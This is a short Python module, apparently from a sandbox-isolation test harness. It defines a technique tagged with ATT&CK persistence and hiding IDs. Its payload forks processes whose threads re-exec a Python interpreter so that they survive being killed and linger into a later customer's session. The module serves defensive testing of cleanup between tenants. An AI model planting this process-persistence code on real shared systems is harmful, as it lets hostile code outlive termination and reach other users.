"""Leaves processes in which a thread replaces the main thread by an exec while they are killed."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Alive
from dayfly.lab.gauntlet.payloads import PROGRAM
from dayfly.lab.gauntlet.technique import Technique

PLANT = (
    PROGRAM
    + """
import threading
for _ in range(8):
    if os.fork() == 0:
        threading.Thread(target=lambda: os.execv(sys.executable, ["x", "-S", "-c", code])).start()
        time.sleep(9)
time.sleep(0.05)
"""
)

TECHNIQUE = Technique(
    level="L2",
    attack=("T1543", "T1564"),
    family="M10",
    must_fail_to="run while a later customer is served",
    plant=PLANT,
    evidence=Alive(takes=0.15),
    ends_window=True,
    spoils=True,
    finding="residue.process",
)
